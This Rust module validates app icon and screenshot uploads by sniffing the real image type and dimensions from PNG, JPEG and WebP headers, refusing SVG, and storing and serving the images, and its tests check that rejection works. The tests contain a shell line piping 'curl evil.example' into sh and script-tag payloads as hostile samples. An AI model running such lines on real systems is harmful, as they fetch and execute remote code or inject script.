//! An app's icon and screenshots, uploaded by its developer (tables `app_media`, the images by
//! content hash, and `app_images`, which app shows which). Only real PNG, JPEG and WebP images
//! of bounded size are kept: the type is read from the bytes, never from a name or a header,
//! and the dimensions from the image's own header. SVG is refused (it can carry script). The
//! images are served at `/media/{sha256}` with their type, `nosniff`, and a CSP that runs
//! nothing.

use serde::Serialize;
use utoipa::ToSchema;

use crate::platform::{PlatformError, Result};
use crate::store::{Store, now_ms};

/// Largest icon, in bytes.
pub const MAX_ICON_BYTES: usize = 512 << 10;
/// Largest screenshot, in bytes.
pub const MAX_SCREENSHOT_BYTES: usize = 4 << 20;
/// Screenshots per app.
pub const MAX_SCREENSHOTS: usize = 8;

/// What an image is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    Icon,
    Screenshot,
}

impl Role {
    fn name(self) -> &'static str {
        match self {
            Role::Icon => "icon",
            Role::Screenshot => "screenshot",
        }
    }

    fn max_bytes(self) -> usize {
        match self {
            Role::Icon => MAX_ICON_BYTES,
            Role::Screenshot => MAX_SCREENSHOT_BYTES,
        }
    }

    /// Smallest and largest side, in pixels.
    fn sides(self) -> (u32, u32) {
        match self {
            Role::Icon => (32, 1024),
            Role::Screenshot => (200, 4096),
        }
    }
}

/// A checked image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, ToSchema)]
pub struct Image {
    pub sha256: String,
    /// `image/png`, `image/jpeg` or `image/webp`.
    pub content_type: String,
    pub width: u32,
    pub height: u32,
    pub size: usize,
    /// Where it is served.
    pub url: String,
}

/// Why an upload is not an acceptable image.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum ImageError {
    #[error("an {0} must be a PNG, JPEG or WebP image; SVG is not accepted, since it can carry script")]
    Svg(&'static str),
    #[error("an {0} must be a PNG, JPEG or WebP image; these bytes are none of them")]
    NotAnImage(&'static str),
    #[error("the {role} is {size} bytes; it may be at most {max} bytes")]
    TooBig {
        role: &'static str,
        size: usize,
        max: usize,
    },
    #[error("the {role} is {width}x{height} pixels; each side must be {min} to {max} pixels")]
    BadSize {
        role: &'static str,
        width: u32,
        height: u32,
        min: u32,
        max: u32,
    },
    #[error("the {0}'s header is cut short or damaged")]
    Damaged(&'static str),
}

impl From<ImageError> for PlatformError {
    fn from(e: ImageError) -> Self {
        PlatformError::Invalid(e.to_string())
    }
}

fn be16(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from(u16::from_be_bytes(b.get(at..at + 2)?.try_into().ok()?)))
}

fn le16(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from(u16::from_le_bytes(b.get(at..at + 2)?.try_into().ok()?)))
}

fn le24(b: &[u8], at: usize) -> Option<u32> {
    let s = b.get(at..at + 3)?;
    Some(u32::from(s[0]) | u32::from(s[1]) << 8 | u32::from(s[2]) << 16)
}

/// The type and dimensions read from an image's own header.
fn sniff(bytes: &[u8], role: &'static str) -> std::result::Result<(&'static str, u32, u32), ImageError> {
    let damaged = || ImageError::Damaged(role);
    if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
        if bytes.get(12..16) != Some(b"IHDR") {
            return Err(damaged());
        }
        let width = u32::from_be_bytes(
            bytes
                .get(16..20)
                .ok_or_else(damaged)?
                .try_into()
                .map_err(|_| damaged())?,
        );
        let height = u32::from_be_bytes(
            bytes
                .get(20..24)
                .ok_or_else(damaged)?
                .try_into()
                .map_err(|_| damaged())?,
        );
        return Ok(("image/png", width, height));
    }
    if bytes.starts_with(&[0xFF, 0xD8, 0xFF]) {
        // Walk the segments to the frame header (SOF0 to SOF15, not DHT, JPG or DAC).
        let mut at = 2;
        while at + 4 <= bytes.len() {
            if bytes[at] != 0xFF {
                return Err(damaged());
            }
            let marker = bytes[at + 1];
            if marker == 0xFF {
                at += 1;
                continue;
            }
            if (0xD0..=0xD9).contains(&marker) || marker == 0x01 {
                at += 2;
                continue;
            }
            let length = be16(bytes, at + 2).ok_or_else(damaged)? as usize;
            if (0xC0..=0xCF).contains(&marker) && ![0xC4, 0xC8, 0xCC].contains(&marker) {
                let height = be16(bytes, at + 5).ok_or_else(damaged)?;
                let width = be16(bytes, at + 7).ok_or_else(damaged)?;
                return Ok(("image/jpeg", width, height));
            }
            if length < 2 {
                return Err(damaged());
            }
            at += 2 + length;
        }
        return Err(damaged());
    }
    if bytes.len() >= 12 && &bytes[0..4] == b"RIFF" && &bytes[8..12] == b"WEBP" {
        let chunk = bytes.get(12..16).ok_or_else(damaged)?;
        let data = 20;
        let (width, height) = match chunk {
            b"VP8 " => {
                if bytes.get(data + 3..data + 6) != Some(&[0x9d, 0x01, 0x2a]) {
                    return Err(damaged());
                }
                (
                    le16(bytes, data + 6).ok_or_else(damaged)? & 0x3fff,
                    le16(bytes, data + 8).ok_or_else(damaged)? & 0x3fff,
                )
            }
            b"VP8L" => {
                if bytes.get(data) != Some(&0x2f) {
                    return Err(damaged());
                }
                let bits = u32::from_le_bytes(
                    bytes
                        .get(data + 1..data + 5)
                        .ok_or_else(damaged)?
                        .try_into()
                        .map_err(|_| damaged())?,
                );
                ((bits & 0x3fff) + 1, ((bits >> 14) & 0x3fff) + 1)
            }
            b"VP8X" => (
                le24(bytes, data + 4).ok_or_else(damaged)? + 1,
                le24(bytes, data + 7).ok_or_else(damaged)? + 1,
            ),
            _ => return Err(damaged()),
        };
        return Ok(("image/webp", width, height));
    }
    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(512)]).to_ascii_lowercase();
    if head.contains("<svg") || head.trim_start().starts_with("<?xml") {
        return Err(ImageError::Svg(role));
    }
    Err(ImageError::NotAnImage(role))
}

/// Checks an upload for `role`: its real type, its size and its dimensions.
pub fn check(bytes: &[u8], role: Role) -> std::result::Result<Image, ImageError> {
    let name = role.name();
    if bytes.len() > role.max_bytes() {
        return Err(ImageError::TooBig {
            role: name,
            size: bytes.len(),
            max: role.max_bytes(),
        });
    }
    let (content_type, width, height) = sniff(bytes, name)?;
    let (min, max) = role.sides();
    if width < min || height < min || width > max || height > max {
        return Err(ImageError::BadSize {
            role: name,
            width,
            height,
            min,
            max,
        });
    }
    let sha256 = super::apps::sha256_hex(bytes);
    Ok(Image {
        url: format!("/media/{sha256}"),
        sha256,
        content_type: content_type.to_owned(),
        width,
        height,
        size: bytes.len(),
    })
}

async fn keep(image: &Image, bytes: &[u8], conn: &mut crate::store::Conn) -> Result<()> {
    crate::store::query(
        "INSERT INTO app_media (sha256, content_type, width, height, size, bytes, created_at) \
         VALUES ($1, $2, $3, $4, $5, $6, $7) ON CONFLICT (sha256) DO NOTHING",
    )
    .bind(&image.sha256)
    .bind(&image.content_type)
    .bind(i64::from(image.width))
    .bind(i64::from(image.height))
    .bind(image.size as i64)
    .bind(bytes)
    .bind(now_ms())
    .execute(&mut *conn)
    .await?;
    Ok(())
}

/// Sets the app's icon to the checked upload.
pub async fn set_icon(store: &Store, app_id: &str, bytes: &[u8]) -> Result<Image> {
    let image = check(bytes, Role::Icon)?;
    let mut conn = store.writer().acquire().await?;
    let mut tx = conn.begin().await?;
    keep(&image, bytes, &mut tx).await?;
    crate::store::query("DELETE FROM app_images WHERE app_id = $1 AND role = 'icon'")
        .bind(app_id)
        .execute(&mut *tx)
        .await?;
    crate::store::query("INSERT INTO app_images (app_id, role, position, sha256) VALUES ($1, 'icon', 0, $2)")
        .bind(app_id)
        .bind(&image.sha256)
        .execute(&mut *tx)
        .await?;
    tx.commit().await?;
    Ok(image)
}

/// Adds a checked screenshot after the app's others.
pub async fn add_screenshot(store: &Store, app_id: &str, bytes: &[u8]) -> Result<Image> {
    let image = check(bytes, Role::Screenshot)?;
    let mut conn = store.writer().acquire().await?;
    let mut tx = conn.begin().await?;
    let (count, last): (i64, Option<i64>) = crate::store::query_as(
        "SELECT COUNT(*), MAX(position) FROM app_images WHERE app_id = $1 AND role = 'screenshot'",
    )
    .bind(app_id)
    .fetch_one(&mut *tx)
    .await?;
    if count as usize >= MAX_SCREENSHOTS {
        return Err(PlatformError::Invalid(format!(
            "an app may show at most {MAX_SCREENSHOTS} screenshots; delete one first"
        )));
    }
    let taken: Option<(String,)> = crate::store::query_as(
        "SELECT sha256 FROM app_images WHERE app_id = $1 AND role = 'screenshot' AND sha256 = $2",
    )
    .bind(app_id)
    .bind(&image.sha256)
    .fetch_optional(&mut *tx)
    .await?;
    if taken.is_some() {
        return Err(PlatformError::Conflict("this screenshot is already shown".into()));
    }
    keep(&image, bytes, &mut tx).await?;
    crate::store::query(
        "INSERT INTO app_images (app_id, role, position, sha256) VALUES ($1, 'screenshot', $2, $3)",
    )
    .bind(app_id)
    .bind(last.map_or(0, |p| p + 1))
    .bind(&image.sha256)
    .execute(&mut *tx)
    .await?;
    tx.commit().await?;
    Ok(image)
}

/// Removes one of the app's screenshots.
pub async fn remove_screenshot(store: &Store, app_id: &str, sha256: &str) -> Result<()> {
    let done = crate::store::query(
        "DELETE FROM app_images WHERE app_id = $1 AND role = 'screenshot' AND sha256 = $2",
    )
    .bind(app_id)
    .bind(sha256)
    .execute(store.writer())
    .await?;
    if done.rows_affected() == 0 {
        return Err(PlatformError::NotFound("screenshot"));
    }
    Ok(())
}

/// The app's icon and screenshots, in order.
#[derive(Debug, Clone, Default, Serialize, ToSchema)]
pub struct Gallery {
    pub icon: Option<Image>,
    pub screenshots: Vec<Image>,
}

/// The icon and screenshots of `app_id`.
pub async fn gallery(store: &Store, app_id: &str) -> Result<Gallery> {
    let rows: Vec<(String, String, String, i64, i64, i64)> = crate::store::query_as(
        "SELECT i.role, m.sha256, m.content_type, m.width, m.height, m.size FROM app_images i \
         JOIN app_media m ON m.sha256 = i.sha256 WHERE i.app_id = $1 ORDER BY i.role, i.position",
    )
    .bind(app_id)
    .fetch_all(store.reader())
    .await?;
    let mut gallery = Gallery::default();
    for (role, sha256, content_type, width, height, size) in rows {
        let image = Image {
            url: format!("/media/{sha256}"),
            sha256,
            content_type,
            width: width as u32,
            height: height as u32,
            size: size as usize,
        };
        if role == "icon" {
            gallery.icon = Some(image);
        } else {
            gallery.screenshots.push(image);
        }
    }
    Ok(gallery)
}

/// The icons of several apps: app id → URL.
pub async fn icons(store: &Store) -> Result<std::collections::HashMap<String, String>> {
    let rows: Vec<(String, String)> =
        crate::store::query_as("SELECT app_id, sha256 FROM app_images WHERE role = 'icon'")
            .fetch_all(store.reader())
            .await?;
    Ok(rows
        .into_iter()
        .map(|(app, sha)| (app, format!("/media/{sha}")))
        .collect())
}

/// An image's type and bytes, to serve it.
pub async fn fetch(store: &Store, sha256: &str) -> Result<(String, Vec<u8>)> {
    let found: Option<(String, Vec<u8>)> =
        crate::store::query_as("SELECT content_type, bytes FROM app_media WHERE sha256 = $1")
            .bind(sha256)
            .fetch_optional(store.reader())
            .await?;
    found.ok_or(PlatformError::NotFound("image"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A PNG header of `width`x`height` (enough for the checks, which read the header only).
    fn png(width: u32, height: u32) -> Vec<u8> {
        let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        b.extend(width.to_be_bytes());
        b.extend(height.to_be_bytes());
        b.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
        b.extend(b"\0\0\0\0IEND\xaeB`\x82");
        b
    }

    fn jpeg(width: u16, height: u16) -> Vec<u8> {
        let mut b = vec![0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10];
        b.extend(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
        b.extend([0xFF, 0xC0, 0x00, 0x11, 0x08]);
        b.extend(height.to_be_bytes());
        b.extend(width.to_be_bytes());
        b.extend([3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xFF, 0xD9]);
        b
    }

    fn webp_lossless(width: u32, height: u32) -> Vec<u8> {
        let mut b = b"RIFF\0\0\0\0WEBPVP8L\0\0\0\0\x2f".to_vec();
        let bits = (width - 1) | ((height - 1) << 14);
        b.extend(bits.to_le_bytes());
        b
    }

    #[test]
    fn real_images_are_read_from_their_bytes() {
        let icon = check(&png(256, 256), Role::Icon).unwrap();
        assert_eq!(
            (icon.content_type.as_str(), icon.width, icon.height),
            ("image/png", 256, 256)
        );
        assert_eq!(icon.url, format!("/media/{}", icon.sha256));
        let shot = check(&jpeg(1280, 800), Role::Screenshot).unwrap();
        assert_eq!(
            (shot.content_type.as_str(), shot.width, shot.height),
            ("image/jpeg", 1280, 800)
        );
        let shot = check(&webp_lossless(1024, 768), Role::Screenshot).unwrap();
        assert_eq!(
            (shot.content_type.as_str(), shot.width, shot.height),
            ("image/webp", 1024, 768)
        );
    }

    #[test]
    fn a_script_an_svg_or_a_huge_image_is_refused_with_the_reason() {
        let script = b"#!/bin/sh\ncurl evil.example | sh\n";
        assert_eq!(check(script, Role::Icon), Err(ImageError::NotAnImage("icon")));
        let html = b"<html><script>alert(1)</script></html>";
        assert_eq!(
            check(html, Role::Screenshot),
            Err(ImageError::NotAnImage("screenshot"))
        );
        let svg = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
        assert_eq!(check(svg, Role::Icon), Err(ImageError::Svg("icon")));
        let mut big = png(2000, 2000);
        big.resize(50 << 20, 0);
        assert!(matches!(
            check(&big, Role::Screenshot),
            Err(ImageError::TooBig { size, .. }) if size == 50 << 20
        ));
        assert!(matches!(
            check(&png(100_000, 100_000), Role::Screenshot),
            Err(ImageError::BadSize { width: 100_000, .. })
        ));
        assert!(matches!(
            check(&png(8, 8), Role::Icon),
            Err(ImageError::BadSize { .. })
        ));
        assert_eq!(
            check(&png(256, 256)[..14], Role::Icon),
            Err(ImageError::Damaged("icon"))
        );
        assert!(check(b"", Role::Icon).is_err());
    }
}
